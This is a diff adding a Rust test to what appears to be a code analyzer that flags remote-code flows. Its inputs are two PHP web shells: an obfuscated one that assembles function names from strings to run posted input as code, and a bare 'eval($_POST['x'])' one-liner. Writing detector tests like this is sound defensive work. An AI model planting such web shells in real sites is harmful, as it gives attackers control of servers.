@@ -495,3 +495,13 @@ fn wrappers_around_modules_are_the_modules() {
     let outcome = outcome(Language::JavaScript, code);
     assert!(event(&outcome, Act::Send).data.count(Labels::HOSTNAME.with(Labels::USER)) == 2);
 }
+
+#[test]
+fn functions_of_php_are_called_by_names_put_together() {
+    let code = "<?php $re = str_replace('fd', '', 'sfdtfdr_fdrefdplace'); $l = $re('p', '', 'pcrepaptpe_fupncptpipopn'); $f = $l('$a', $_POST['x']); $f(1);";
+    assert!(rules(Language::Php, code).contains(&"flow-remote-code"));
+    // A shell that is asked over the web needs no address: whoever asks is the other side.
+    let outcome = outcome(Language::Php, "<?php eval($_POST['x']);");
+    let flows = flows::judge(&outcome, false);
+    assert!(flows.iter().any(|f| f.rule.id == "flow-remote-code" && f.severity.is_none()));
+}
